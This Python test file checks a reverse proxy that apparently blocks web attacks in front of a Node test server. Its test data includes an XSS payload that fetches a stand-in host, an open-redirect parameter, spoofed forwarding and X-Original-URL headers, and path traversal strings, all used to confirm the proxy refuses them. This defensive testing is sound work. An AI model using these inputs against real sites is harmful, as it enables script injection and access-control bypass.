"""`signoff proxy` in front of real servers, one of them Node's."""

from __future__ import annotations

import contextlib
import json
import shutil
import socket
import subprocess
import sys
import time
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest
from bench.ports import free_port
from serving import Client, asgi_server
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response, StreamingResponse
from starlette.routing import Route

pytest.importorskip("httpx2", reason="the extra `proxy` is not installed")

from signoff.errors import BadSettings
from signoff.frontends.web_apps.reverse_proxy import ReverseProxy

NODE = shutil.which("node")
SERVER = """
require('http').createServer((ask, answer) => {
  let body = '';
  ask.on('data', piece => body += piece);
  ask.on('end', () => {
    answer.setHeader('X-Server', 'node');
    answer.setHeader('Content-Type', 'application/json');
    answer.end(JSON.stringify({url: ask.url, body, from: ask.headers['x-forwarded-for']}));
  });
}).listen(+process.argv[1], '127.0.0.1');
"""
ATTACK = "/search?q=%3Cscript%3Efetch('//e.example')%3C/script%3E"


@contextlib.contextmanager
def running(words: list[str], port: int) -> Iterator[None]:
    """Run a server until the block ends, and wait until it listens."""
    process = subprocess.Popen(words)
    try:
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            with socket.socket() as link:
                if link.connect_ex(("127.0.0.1", port)) == 0:
                    break
            time.sleep(0.02)
        yield
    finally:
        process.terminate()
        process.wait(20)


@pytest.mark.skipif(NODE is None, reason="node is not installed")
def test_node_server_serves_what_is_no_attack() -> None:
    """The command stands in front of a server of Node: traffic passes, attacks do not arrive."""
    there, here = free_port(), free_port()
    proxy = [sys.executable, "-m", "signoff", "proxy", "--to", f"http://127.0.0.1:{there}"]
    proxy += ["--port", str(here), "--strict", "/login", "--unjudged", "/static/*"]
    with running([str(NODE), "-e", SERVER, str(there)], there), running(proxy, here):
        client = Client(here)
        good = client.post("/notes?page=2", '{"text": "it\'s fine"}', "application/json")
        assert (200, "node") == (good.status, good.headers["x-server"])
        assert json.loads(good.body) == {
            "url": "/notes?page=2",
            "body": '{"text": "it\'s fine"}',
            "from": "127.0.0.1",
        }
        statuses = [
            client.get(ATTACK).status,
            client.get("/static/a?q=%3Cscript%3Ex()%3C/script%3E").status,
            client.get("/login?next=https://e.example").status,
        ]
        assert [403, 200, 403] == statuses


async def tell(request: Request) -> JSONResponse:
    body = await request.body()
    return JSONResponse({"headers": dict(request.headers), "length": len(body)})


async def stream(request: Request) -> StreamingResponse:
    async def pieces() -> AsyncIterator[bytes]:
        for number in range(50):
            yield b"%d;" % number

    return StreamingResponse(pieces())


async def target(request: Request) -> JSONResponse:
    response = JSONResponse({"target": request.scope["raw_path"].decode()})
    response.set_cookie("session", "of-ann")
    return response


async def odd(request: Request) -> Response:
    made = Response(b"x", status_code=201, headers={"connection": "x-own", "x-own": "1"})
    made.headers.append("set-cookie", "a=1")
    made.headers.append("set-cookie", "b=2")
    return made


@pytest.fixture(scope="module")
def client() -> Iterator[Client]:
    routes = [
        Route("/stream", stream),
        Route("/odd", odd),
        Route("/target/{rest:path}", target),
        Route("/{rest:path}", tell, methods=["GET", "POST"]),
    ]
    with contextlib.ExitStack() as stack:
        server = stack.enter_context(asgi_server(Starlette(routes=routes)))
        proxy = ReverseProxy(f"http://127.0.0.1:{server.port}")
        yield stack.enter_context(asgi_server(proxy))


def test_headers_of_one_connection_stay_behind(client: Client) -> None:
    """Nobody says for the proxy who the client is, and nothing is said about the framing."""
    lying = {"X-Forwarded-For": "10.0.0.1", "Connection": "X-Secret", "X-Secret": "1", "X-A": "2"}
    lying |= {"X_Real_IP": "10.0.0.1", "X-Forwarded-Host": "e.example", "X-Original-URL": "/admin"}
    seen = json.loads(client.get("/a", **lying).body)["headers"]
    assert ("127.0.0.1", "2", None) == (seen["x-forwarded-for"], seen["x-a"], seen.get("x-secret"))
    assert not seen.keys() & {"x_real_ip", "x-forwarded-host", "x-original-url"}


def test_a_visitor_gets_no_cookie_of_another(client: Client) -> None:
    """What the server sets for one visitor is never sent for the next."""
    assert "of-ann" in client.get("/target/a").headers["set-cookie"]
    assert "cookie" not in json.loads(client.get("/a").body)["headers"]


def test_nothing_is_added_to_a_request(client: Client) -> None:
    """A client that unpacks nothing gets nothing packed."""
    seen = json.loads(client.get("/a").body)["headers"]
    assert not seen.keys() & {"accept", "user-agent"}
    assert "identity" == seen["accept-encoding"]


@pytest.mark.parametrize("path", ["/target/../a", "/target/%2e%2e/a", "/target//./b", "/target/`"])
def test_the_path_that_was_judged_is_served(client: Client, path: str) -> None:
    """A tidied path would be another one than the rules were looked up for."""
    assert path == json.loads(client.get(path).body)["target"]


@pytest.mark.skipif(NODE is None, reason="node is not installed")
@pytest.mark.parametrize("behind, seen", [("127.0.0.1", "203.0.113.7"), ("192.0.2.1", "127.0.0.1")])
def test_a_proxy_in_front_names_the_client(behind: str, seen: str) -> None:
    """Only one that was named; else every client could."""
    there, here = free_port(), free_port()
    proxy = [sys.executable, "-m", "signoff", "proxy", "--to", f"http://127.0.0.1:{there}"]
    proxy += ["--port", str(here), "--behind", behind]
    with running([str(NODE), "-e", SERVER, str(there)], there), running(proxy, here):
        answer = Client(here).get("/", **{"X-Forwarded-For": "203.0.113.7"})
        assert seen == json.loads(answer.body)["from"]


def test_bodies_pass_whole(client: Client) -> None:
    """Declared and in chunks, large ones too."""
    size = 3 << 20
    chunks = iter([b"x" * 1000] * 5)
    assert (size, 5000) == (
        json.loads(client.post("/a", b"x" * size, "text/plain").body)["length"],
        json.loads(client.ask("POST", "/a", chunks).body)["length"],
    )


def test_responses_pass_as_they_are(client: Client) -> None:
    """Status, headers and streamed pieces."""
    answer = client.get("/odd")
    assert (201, "x", False) == (answer.status, answer.body, "x-own" in answer.headers)
    assert client.get("/stream").body.endswith("48;49;")


def test_server_that_is_not_there_is_502() -> None:
    """The client is told, and the proxy goes on."""
    with asgi_server(ReverseProxy(f"http://127.0.0.1:{free_port()}")) as made:
        answer = made.get("/")
        assert (502, "application/problem+json") == (answer.status, answer.headers["content-type"])


@pytest.mark.parametrize("to", ["127.0.0.1:3000", "ftp://a", "http://", "http://a?b=1"])
def test_address_that_is_none_is_refused(to: str) -> None:
    """Only http and https."""
    with pytest.raises(BadSettings, match="http"):
        ReverseProxy(to)


@pytest.mark.skipif(NODE is None, reason="node is not installed")
def test_parts_beside_the_file_are_found(tmp_path: Path) -> None:
    """The command is started anywhere; each key counts by itself."""
    (tmp_path / "shop_clients.py").write_text(
        "def by_key(request):\n    return request.header('x-api-key')\n"
    )
    (tmp_path / "web.yaml").write_text(
        "client_of: shop_clients:by_key\naccess: {all: {requests: 1/hour}}\n"
        "pipelines: {all: {access: all}}\ndefault: all\n"
    )
    there, here = free_port(), free_port()
    proxy = [sys.executable, "-m", "signoff", "proxy", "--to", f"http://127.0.0.1:{there}"]
    proxy += ["--port", str(here), "--config", str(tmp_path / "web.yaml")]
    with running([str(NODE), "-e", SERVER, str(there)], there), running(proxy, here):
        keys = ("a", "a", "b")
        statuses = [Client(here).get("/", **{"X-API-Key": key}).status for key in keys]
    assert [200, 429, 200] == statuses
